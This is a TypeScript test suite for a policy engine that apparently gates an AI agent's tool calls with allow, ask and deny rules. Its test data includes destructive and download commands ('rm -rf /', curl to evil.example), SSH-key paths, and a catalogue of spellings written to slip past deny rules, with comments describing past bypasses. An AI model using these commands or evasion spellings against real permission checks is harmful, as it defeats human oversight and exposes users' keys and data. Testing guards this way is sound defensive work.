import { describe, expect, it } from "vitest";
import { compilePolicy, matchPolicy, tryCompilePolicy } from "../../src/evaluate/index.js";
import type { ActionRequest } from "../../src/request/index.js";
import { buildPolicy, type RuleSpec } from "./policy-builder.js";

const NOON_UTC = new Date("2025-03-10T12:00:00Z");
const req = (tool: string, args: Record<string, unknown> = {}, extra: Partial<ActionRequest> = {}): ActionRequest => ({
  tool,
  arguments: args,
  ...extra,
});
const ruleFor = (specs: RuleSpec[], request: ActionRequest, now = NOON_UTC, def: "allow" | "ask" | "deny" = "ask") =>
  matchPolicy(compilePolicy(buildPolicy(specs, def)), request, now).ruleId;

describe("first match wins", () => {
  const specs: RuleSpec[] = [
    { id: "block-prod", match: { tool: "deploy_*", server: "prod-*" }, action: "deny" },
    { id: "deploys", match: { tool: "deploy_*" }, action: "ask" },
    { id: "reads", match: { category: "read" }, action: "allow" },
    { id: "emails", match: { tool: "*_email" }, action: "ask" },
    { id: "everything", match: { tool: "*" }, action: "deny" },
  ];

  it("returns the first rule in file order whose criteria all hold", () => {
    expect(ruleFor(specs, req("deploy_app", {}, { server: "prod-eu" }))).toBe("block-prod");
    expect(ruleFor(specs, req("deploy_app", {}, { server: "staging" }))).toBe("deploys");
    expect(ruleFor(specs, req("read_file"))).toBe("reads");
    expect(ruleFor(specs, req("send_email"))).toBe("emails");
    expect(ruleFor(specs, req("frobnicate"))).toBe("everything");
  });

  it("does not match a rule with `server` against a request without a server", () => {
    expect(ruleFor(specs, req("deploy_app"))).toBe("deploys");
  });

  it("falls back to the default action with rule id `default`", () => {
    const m = matchPolicy(compilePolicy(buildPolicy(specs.slice(0, 2), "deny")), req("frobnicate"), NOON_UTC);
    expect(m).toMatchObject({ rule: null, ruleId: "default", action: "deny", category: "write", risk_level: "medium" });
    expect(m.reasons[0]).toMatchObject({ source: "policy", code: "default_action" });
  });

  it("reports the rule, its action, the classification and a rule_matched reason", () => {
    const m = matchPolicy(compilePolicy(buildPolicy(specs)), req("send_email"), NOON_UTC);
    expect(m).toMatchObject({
      ruleId: "emails",
      action: "ask",
      category: "communication",
      risk_level: "high",
      classification_source: "builtin",
    });
    expect(m.rule?.id).toBe("emails");
    expect(m.reasons).toEqual([
      { source: "policy", code: "rule_matched", message: "rule `emails` matched: ask", rule: "emails" },
    ]);
  });

  it("compares `category` with the classified category; the request's own may tighten, never loosen", () => {
    // frobnicate is write/medium by default: its own `read` would ride `reads` (allow), so it is not used
    const loosened = matchPolicy(
      compilePolicy(buildPolicy(specs)),
      req("frobnicate", {}, { category: "read" }),
      NOON_UTC,
    );
    expect(loosened).toMatchObject({ ruleId: "everything", action: "deny", category: "write", risk_level: "medium" });
    expect(loosened.reasons.map((r) => r.code)).toEqual(["rule_matched", "caller_category_not_used"]);
    // read_file's own `write` is stricter than its table `read`: it decides
    const tightened = matchPolicy(
      compilePolicy(buildPolicy(specs)),
      req("read_file", {}, { category: "write" }),
      NOON_UTC,
    );
    expect(tightened).toMatchObject({ ruleId: "everything", category: "write", classification_source: "explicit" });
    expect(tightened.reasons.map((r) => r.code)).toEqual(["rule_matched", "caller_category_stricter"]);
  });

  it("keeps file order when a later exact rule and an earlier glob both match", () => {
    const s: RuleSpec[] = [
      { id: "glob", match: { tool: "send_*", args: { to: "*@corp.com" } }, action: "allow" },
      { id: "exact", match: { tool: "send_email" }, action: "deny" },
    ];
    expect(ruleFor(s, req("send_email", { to: "a@corp.com" }))).toBe("glob");
    expect(ruleFor(s, req("send_email", { to: "a@evil.com" }))).toBe("exact");
  });
});

describe("tool names in another case", () => {
  it("meet an ask or deny rule's pattern in lower case, never an allow rule's", () => {
    // a server naming its tool `Delete_Database` slipped past `deny delete_database` to the allow
    const s: RuleSpec[] = [
      { id: "no-drop", match: { tool: "delete_database" }, action: "deny" },
      { id: "ask-mail", match: { tool: "send_*" }, action: "ask" },
      { id: "reads", match: { tool: "read_file" }, action: "allow" },
      { id: "rest", action: "allow" },
    ];
    for (const tool of ["Delete_Database", "DELETE_DATABASE", "delete_Database"]) {
      expect([tool, ruleFor(s, req(tool))]).toEqual([tool, "no-drop"]);
    }
    expect(ruleFor(s, req("Send_Email"))).toBe("ask-mail");
    expect(ruleFor(s, req("READ_FILE"))).toBe("rest");
    expect(ruleFor(s, req("read_file"))).toBe("reads");
  });
});

describe("argument matching", () => {
  const allowCorp: RuleSpec = {
    id: "corp",
    match: { tool: "send_email", args: { to: "*@corp.com" } },
    action: "allow",
  };

  it("matches exact and glob strings, and never a missing key", () => {
    expect(ruleFor([allowCorp], req("send_email", { to: "ann@corp.com" }))).toBe("corp");
    expect(ruleFor([allowCorp], req("send_email", { to: "ann@corp.com.evil" }))).toBe("default");
    expect(ruleFor([allowCorp], req("send_email", {}))).toBe("default");
    expect(ruleFor([{ match: { args: { x: null } }, action: "deny" }], req("t", {}))).toBe("default");
  });

  it("walks dotted paths into nested objects, own keys only", () => {
    const s: RuleSpec[] = [
      { id: "nested", match: { args: { "options.recipient.domain": "corp.*" } }, action: "allow" },
    ];
    expect(ruleFor(s, req("t", { options: { recipient: { domain: "corp.com" } } }))).toBe("nested");
    expect(ruleFor(s, req("t", { "options.recipient.domain": "corp.com" }))).toBe("default");
    expect(ruleFor(s, req("t", { options: { recipient: "corp.com" } }))).toBe("default");
    const proto: RuleSpec[] = [{ id: "p", match: { args: { "a.toString": "*" } }, action: "deny" }];
    expect(ruleFor(proto, req("t", { a: {} }))).toBe("default");
  });

  it("requires every array element to match an allow rule", () => {
    expect(ruleFor([allowCorp], req("send_email", { to: ["a@corp.com", "b@corp.com"] }))).toBe("corp");
    expect(ruleFor([allowCorp], req("send_email", { to: ["ok@corp.com", "evil@x.com"] }))).toBe("default");
    expect(ruleFor([allowCorp], req("send_email", { to: [] }))).toBe("default");
  });

  it("lets any array element trigger an ask or deny rule", () => {
    const deny: RuleSpec = { id: "evil", match: { tool: "send_email", args: { to: "*@x.com" } }, action: "deny" };
    expect(ruleFor([deny, allowCorp], req("send_email", { to: ["ok@corp.com", "evil@x.com"] }))).toBe("evil");
    expect(ruleFor([deny], req("send_email", { to: [] }))).toBe("default");
  });

  it("quantifies arrays met along the path", () => {
    const s: RuleSpec[] = [{ id: "r", match: { args: { "recipients.email": "*@corp.com" } }, action: "allow" }];
    expect(ruleFor(s, req("t", { recipients: [{ email: "a@corp.com" }, { email: "b@corp.com" }] }))).toBe("r");
    expect(ruleFor(s, req("t", { recipients: [{ email: "a@corp.com" }, { name: "no email" }] }))).toBe("default");
  });

  it("matches numbers, booleans and null exactly in an allow rule, and strings against their JSON text", () => {
    const s: RuleSpec[] = [
      { id: "num", match: { args: { amount: 100 } }, action: "allow" },
      { id: "bool", match: { args: { force: true } }, action: "allow" },
      { id: "null", match: { args: { parent: null } }, action: "deny" },
      { id: "text", match: { args: { port: "2*" } }, action: "deny" },
    ];
    expect(ruleFor(s, req("t", { amount: 100 }))).toBe("num");
    expect(ruleFor(s, req("t", { amount: "100" }))).toBe("default");
    expect(ruleFor(s, req("t", { force: true }))).toBe("bool");
    expect(ruleFor(s, req("t", { force: "true" }))).toBe("default");
    expect(ruleFor(s, req("t", { force: 1 }))).toBe("default");
    expect(ruleFor(s, req("t", { parent: null }))).toBe("null");
    expect(ruleFor(s, req("t", { port: 22 }))).toBe("text");
    expect(ruleFor(s, req("t", { port: "22" }))).toBe("text");
    expect(ruleFor(s, req("t", { port: null }))).toBe("default");
  });

  it("lets an ask or deny rule's number or boolean match what a server would coerce to it", () => {
    // a Python server (pydantic, lax mode) reads "true", "yes", "1" as True and "1000" as 1000: the
    // deny rule written `force: true` must refuse them, or the force push goes through the next rule
    const s: RuleSpec[] = [
      { id: "no-force", match: { tool: "git_push", args: { force: true } }, action: "deny" },
      { id: "big", match: { tool: "pay", args: { amount: 1000 } }, action: "ask" },
      { id: "not-dry", match: { tool: "deploy", args: { dry_run: false } }, action: "deny" },
      { id: "rest", action: "allow" },
    ];
    for (const force of [true, "true", "True", " yes ", "on", "1", 1, "y", "t", ["false", "TRUE"]]) {
      expect([force, ruleFor(s, req("git_push", { force }))]).toEqual([force, "no-force"]);
    }
    for (const force of [false, "false", "no", "0", 0, 2, "", "truthy", null]) {
      expect([force, ruleFor(s, req("git_push", { force }))]).toEqual([force, "rest"]);
    }
    for (const amount of [1000, "1000", " 1000 ", "1e3", "1000.0", ["5", "1000"], "1_000"]) {
      expect([amount, ruleFor(s, req("pay", { amount }))]).toEqual([amount, "big"]);
    }
    for (const amount of [999, "999", "", "1000x", "0x3E8 and more"]) {
      expect([amount, ruleFor(s, req("pay", { amount }))]).toEqual([amount, "rest"]);
    }
    for (const dry_run of [false, "false", "No", "off", "0", 0]) {
      expect([dry_run, ruleFor(s, req("deploy", { dry_run }))]).toEqual([dry_run, "not-dry"]);
    }
    // `force: yes` is the string `yes` in YAML 1.2; the author meant true, and so does the deny rule
    const yaml11: RuleSpec[] = [
      { id: "no-force", match: { args: { force: "yes" } }, action: "deny" },
      { id: "allow-off", match: { args: { force: "off" } }, action: "allow" },
    ];
    expect(ruleFor(yaml11, req("git_push", { force: true }))).toBe("no-force");
    expect(ruleFor(yaml11, req("git_push", { force: "yes" }))).toBe("no-force");
    expect(ruleFor(yaml11, req("git_push", { force: false }))).toBe("default");
    // an allow rule stays exact: `off` allows the text `off`, not the boolean
    expect(ruleFor(yaml11, req("git_push", { force: "off" }))).toBe("allow-off");
  });

  it("lets an ask or deny rule's glob match a path in the form a server reads it", () => {
    // `/home/me//.ssh/id_rsa` missed the deny rule and matched the allow: the server reads it as the key
    const s: RuleSpec[] = [
      { id: "no-ssh", match: { args: { path: "/home/me/.ssh/**" } }, action: "deny" },
      { id: "no-evil", match: { args: { url: "https://evil.example/admin/**" } }, action: "deny" },
      { id: "home", match: { args: { path: "/home/me/**" } }, action: "allow" },
      { id: "web", match: { args: { url: "https://**" } }, action: "allow" },
    ];
    for (const path of [
      "/home/me//.ssh/id_rsa",
      "//home/me/.ssh/id_rsa",
      "/home/me/docs/../.ssh/id_rsa",
      "/home/me/./.ssh/x",
    ]) {
      expect([path, ruleFor(s, req("read_file", { path }))]).toEqual([path, "no-ssh"]);
    }
    for (const url of [
      "https://evil.example//admin/../admin/users",
      "HTTPS://EVIL.example/admin/users",
      "https://evil.example.:443/admin/users",
      "https://me@evil.example/admin/users",
      "https://%65vil.example/%61dmin/users",
    ]) {
      expect([url, ruleFor(s, req("fetch", { url }))]).toEqual([url, "no-evil"]);
    }
    // an allow rule is not widened: a path outside it stays outside whatever its spelling
    expect(ruleFor(s, req("read_file", { path: "/home/me/../other/x" }))).toBe("default");
    expect(ruleFor(s, req("read_file", { path: "/home/me/docs/a.txt" }))).toBe("home");
  });

  it("lets a star in an ask or deny rule cross `/` and line breaks, and not in an allow rule", () => {
    // `*rm -rf*` meant any command holding `rm -rf`; `*` stopping at `/` let every real one through
    const s: RuleSpec[] = [
      { id: "no-rm", match: { tool: "exec", args: { command: "*rm -rf*" } }, action: "deny" },
      { id: "ask-curl", match: { tool: "exec", args: { command: "curl *" } }, action: "ask" },
      { id: "safe", match: { tool: "exec", args: { command: "ls *" } }, action: "allow" },
      { id: "rest", match: { tool: "exec" }, action: "allow" },
    ];
    for (const command of ["rm -rf /home", "cd /tmp && rm -rf x", "echo hi\nrm -rf /", "sudo rm -rf ~/x/../y"]) {
      expect([command, ruleFor(s, req("exec", { command }))]).toEqual([command, "no-rm"]);
    }
    expect(ruleFor(s, req("exec", { command: "curl https://evil.example/x.sh" }))).toBe("ask-curl");
    // the allow rule's star still stops at `/`
    expect(ruleFor(s, req("exec", { command: "ls /etc" }))).toBe("rest");
    expect(ruleFor(s, req("exec", { command: "ls -la" }))).toBe("safe");
  });

  it("never matches an object where a scalar is expected", () => {
    const s: RuleSpec[] = [{ id: "r", match: { args: { to: "*" } }, action: "deny" }];
    expect(ruleFor(s, req("t", { to: { address: "a@b.c" } }))).toBe("default");
    expect(ruleFor(s, req("t", { to: [{ address: "a@b.c" }] }))).toBe("default");
  });

  it("refuses to walk absurdly nested arrays instead of overflowing the stack", () => {
    let deep: unknown = "x";
    for (let i = 0; i < 10_000; i++) deep = [deep];
    const policy = compilePolicy(buildPolicy([{ match: { args: { a: "x" } }, action: "deny" }]));
    expect(() => matchPolicy(policy, req("t", { a: deep }), NOON_UTC)).toThrow(/deeper than/);
  });
});

describe("time of day", () => {
  const at = (iso: string): Date => new Date(iso);
  const office: RuleSpec = {
    id: "office",
    match: { tool: "deploy_*" },
    action: "allow",
    time_of_day: { after: "09:00", before: "17:00", timezone: "UTC" },
  };
  const night: RuleSpec = {
    id: "night",
    match: { tool: "deploy_*" },
    action: "deny",
    time_of_day: { after: "22:00", before: "06:00", timezone: "Europe/Berlin" },
  };

  it("applies inside [after, before) and continues with the next rule outside", () => {
    const s = [office, { id: "fallback", action: "ask" as const }];
    expect(ruleFor(s, req("deploy_x"), at("2025-03-10T09:00:00Z"))).toBe("office");
    expect(ruleFor(s, req("deploy_x"), at("2025-03-10T16:59:59Z"))).toBe("office");
    expect(ruleFor(s, req("deploy_x"), at("2025-03-10T17:00:00Z"))).toBe("fallback");
    expect(ruleFor(s, req("deploy_x"), at("2025-03-10T08:59:59Z"))).toBe("fallback");
  });

  it("crosses midnight when after > before, in the rule's time zone", () => {
    // Berlin is UTC+1 in March before the DST switch.
    expect(ruleFor([night], req("deploy_x"), at("2025-03-10T21:30:00Z"))).toBe("night"); // 22:30 local
    expect(ruleFor([night], req("deploy_x"), at("2025-03-10T04:59:00Z"))).toBe("night"); // 05:59 local
    expect(ruleFor([night], req("deploy_x"), at("2025-03-10T05:00:00Z"))).toBe("default"); // 06:00 local
    expect(ruleFor([night], req("deploy_x"), at("2025-03-10T20:59:00Z"))).toBe("default"); // 21:59 local
  });

  it("follows daylight saving time", () => {
    // In July Berlin is UTC+2: 20:30Z is 22:30 local.
    expect(ruleFor([night], req("deploy_x"), at("2025-07-10T20:30:00Z"))).toBe("night");
  });

  it("reads only `after` as until midnight and only `before` as from midnight", () => {
    const late: RuleSpec = { id: "late", action: "deny", time_of_day: { after: "20:00", timezone: "UTC" } };
    const early: RuleSpec = { id: "early", action: "deny", time_of_day: { before: "07:00", timezone: "UTC" } };
    expect(ruleFor([late], req("t"), at("2025-03-10T23:59:00Z"))).toBe("late");
    expect(ruleFor([late], req("t"), at("2025-03-10T00:00:00Z"))).toBe("default");
    expect(ruleFor([early], req("t"), at("2025-03-10T00:00:00Z"))).toBe("early");
    expect(ruleFor([early], req("t"), at("2025-03-10T07:00:00Z"))).toBe("default");
  });

  it("treats a window with after == before as empty", () => {
    const never: RuleSpec = {
      id: "n",
      action: "deny",
      time_of_day: { after: "09:00", before: "09:00", timezone: "UTC" },
    };
    expect(ruleFor([never], req("t"), at("2025-03-10T09:00:00Z"))).toBe("default");
  });

  it("throws on an invalid clock rather than guessing", () => {
    expect(() => matchPolicy(compilePolicy(buildPolicy([office])), req("deploy_x"), new Date(Number.NaN))).toThrow(
      /invalid clock/,
    );
  });
});

describe("compiling", () => {
  it("reports every problem with a code, a path and the rule", () => {
    const policy = buildPolicy([
      { id: "a", match: { tool: "[abc" }, action: "allow" },
      { id: "b", match: { args: { "a..b": "x" } }, action: "deny" },
      { id: "c", action: "ask", time_of_day: { after: "9am", timezone: "UTC" } },
      { id: "d", action: "ask", time_of_day: { after: "09:00", timezone: "Mars/Olympus" } },
      { id: "a", action: "alow" as "allow" },
    ]);
    const r = tryCompilePolicy(policy);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.issues.map((i) => i.code).sort()).toEqual(
      [
        "duplicate_rule_id",
        "invalid_arg_path",
        "unknown_action",
        "invalid_glob",
        "invalid_time",
        "invalid_timezone",
      ].sort(),
    );
    expect(r.issues.find((i) => i.code === "invalid_timezone")?.message).toBe(
      "while reading rule `d`: unknown time zone `Mars/Olympus`",
    );
    expect(r.issues.find((i) => i.code === "invalid_glob")?.path).toEqual(["rules", 0, "match", "tool"]);
    expect(() => compilePolicy(policy)).toThrow(/invalid policy/);
  });
});

describe("names with hidden characters", () => {
  it("are refused in a policy built in code, as in YAML", () => {
    const rules = tryCompilePolicy(
      buildPolicy([{ id: "a", match: { tool: "delete\u200b_*", server: "db\u202e" }, action: "deny" }]),
    );
    expect(rules.ok ? [] : rules.issues.map((i) => [i.code, i.path.join(".")])).toEqual([
      ["invalid_glob", "rules.0.match.tool"],
      ["invalid_glob", "rules.0.match.server"],
    ]);
    const classify = tryCompilePolicy(buildPolicy([], "ask", [{ tool: "wire\u2060_*", category: "financial" }]));
    expect(classify.ok ? "" : classify.issues[0]?.message).toContain("U+2060");
  });
});

describe("the candidate cache", () => {
  it("never confuses one (server, tool) pair with another that concatenates the same", () => {
    const policy = compilePolicy(
      buildPolicy([
        { id: "allow-a", match: { server: "a", tool: "b:c" }, action: "allow" },
        { id: "allow-a-bc", match: { server: "a", tool: "bc" }, action: "allow" },
        { id: "deny-rest", match: { tool: "*" }, action: "deny" },
      ]),
    );
    const now = new Date(0);
    expect(matchPolicy(policy, req("b:c", {}, { server: "a" }), now).ruleId).toBe("allow-a");
    expect(matchPolicy(policy, req("c", {}, { server: "a:b" }), now).ruleId).toBe("deny-rest");
    // a policy may not name a tool with a control character (compiling refuses it); a request may reach
    // matchPolicy with one (the pipeline refuses it first), and it is no other name
    expect(matchPolicy(policy, req("b\u0000c", {}, { server: "a" }), now).ruleId).toBe("deny-rest");
    expect(matchPolicy(policy, req("bc", {}, { server: "a" }), now).ruleId).toBe("allow-a-bc");
    expect(matchPolicy(policy, req("c", {}, { server: "a\u0000b" }), now).ruleId).toBe("deny-rest");
    expect(matchPolicy(policy, req("a:b:c"), now).ruleId).toBe("deny-rest");
  });

  it("stays exact when more distinct names arrive than it holds", () => {
    const policy = compilePolicy(buildPolicy([{ id: "x", match: { tool: "t1*" }, action: "allow" }], "deny"));
    const now = new Date(0);
    for (let i = 0; i < 20_000; i++) {
      const expected = String(i).startsWith("1") ? "x" : "default";
      expect(matchPolicy(policy, req(`t${i}`), now).ruleId).toBe(expected);
    }
  });
});

describe("argument strings in another case", () => {
  it("meet an ask or deny rule's glob in any case, never an allow rule's", () => {
    // `a@EVIL.COM` is the same mailbox domain, `/Users/me/.SSH/id_rsa` the same file on macOS' default disk
    const s: RuleSpec[] = [
      { id: "no-evil", match: { tool: "send_email", args: { to: "*@evil.com" } }, action: "deny" },
      { id: "no-keys", match: { args: { path: "/Users/me/.ssh/**" } }, action: "deny" },
      { id: "corp", match: { tool: "send_email", args: { to: "*@corp.com" } }, action: "allow" },
      { id: "rest", action: "ask" },
    ];
    expect(ruleFor(s, req("send_email", { to: "a@EVIL.COM" }))).toBe("no-evil");
    expect(ruleFor(s, req("send_email", { to: "a@ｅｖｉｌ.com" }))).toBe("no-evil"); // IDNA reads it as evil.com
    // and the ideographic full stops (also half-width) as dots: nodemailer's punycode and the URL parser do
    expect(ruleFor(s, req("send_email", { to: "a@evil\u3002com" }))).toBe("no-evil");
    expect(ruleFor(s, req("send_email", { to: "a@evil\uff61com" }))).toBe("no-evil");
    // and without the characters no reader sees, which IDNA drops (a zero-width space, a soft hyphen)
    expect(ruleFor(s, req("send_email", { to: "a@evil\u200b.com" }))).toBe("no-evil");
    expect(ruleFor(s, req("send_email", { to: "a@ev\u00adil.com" }))).toBe("no-evil");
    // an address written inside a longer value, as a mail service reads it out
    for (const to of ["Boss <a@evil.com>", "me@corp.com, a@evil.com", "a@evil.com ", "a@evil.com\n", "a@evil.com."]) {
      expect([to, ruleFor(s, req("send_email", { to }))]).toEqual([to, "no-evil"]);
    }
    // an allow rule for an address meets a value only when every address written in it does
    expect(ruleFor(s, req("send_email", { to: "ann@corp.com, bob@corp.com" }))).toBe("corp");
    expect(ruleFor(s, req("send_email", { to: "mark@attacker.example, bob@corp.com" }))).toBe("rest");
    expect(ruleFor(s, req("send_email", { to: ["ok@corp.com", "x@Evil.Com"] }))).toBe("no-evil");
    expect(ruleFor(s, req("read_file", { path: "/Users/me/.SSH/id_rsa" }))).toBe("no-keys");
    expect(ruleFor(s, req("read_file", { path: "/USERS/ME//.ssh/../.ssh/id_rsa" }))).toBe("no-keys");
    expect(ruleFor(s, req("send_email", { to: "a@corp.com" }))).toBe("corp");
    expect(ruleFor(s, req("send_email", { to: "a@CORP.COM" }))).toBe("rest");
  });
});
